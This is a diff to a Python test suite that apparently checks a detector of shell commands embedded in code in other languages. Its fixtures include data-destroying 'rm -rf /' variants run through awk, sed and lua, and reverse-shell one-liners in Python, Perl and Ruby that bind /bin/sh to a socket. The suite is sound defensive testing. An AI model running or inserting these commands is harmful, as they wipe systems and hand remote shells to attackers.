@@ -68,7 +68,6 @@ def kinds(foreign: Foreign) -> list[tuple[Kind, frozenset[str]]]:
         ("lua", 'io.popen("rm -rf /")'),
         ("awk", 'BEGIN { system("rm -rf /") }'),
         ("awk", 'BEGIN { cmd = "rm -rf /"; cmd | getline }'),
-        ("awk", '{ print $1 | "rm -rf /" }'),
         ("sed", "1e rm -rf /"),
         ("sed", r"s/.*/rm -rf \//e"),
         ("sed", "/x/{p;e rm -rf /\n}"),
@@ -279,7 +278,8 @@ def test_documents_are_dropped_too(code: str) -> None:
     [
         (
             "python",
-            "import socket,subprocess as p,os;s=socket.socket();s.connect(('x',1));os.dup2(s.fileno(),0);p.call(['sh'])",
+            "import socket,subprocess as p,os;s=socket.socket();s.connect(('x',1));"
+            "os.dup2(s.fileno(),0);p.call(['sh'])",
         ),
         ("perl", 'use Socket;connect(S,sockaddr_in(1,inet_aton("x")));open(STDIN,">&S");exec("/bin/sh -i")'),
         ("ruby", 'require "socket"; s = TCPSocket.new("x", 1); exec "/bin/sh", in: s, out: s'),
@@ -471,3 +471,8 @@ _PIECES = st.sampled_from(
 )
 def test_no_text_raises(language: str, code: str) -> None:
     assert isinstance(of(language, code), Foreign)
+
+
+def test_what_awk_prints_into_a_shell_is_run() -> None:
+    assert of("awk", 'BEGIN { print "rm -rf /" | "sh" }').scripts == ("echo 'rm -rf /' | sh",)
+    assert of("awk", '{ print "rm", $1 | "sh" }').scripts[0].endswith("| sh")
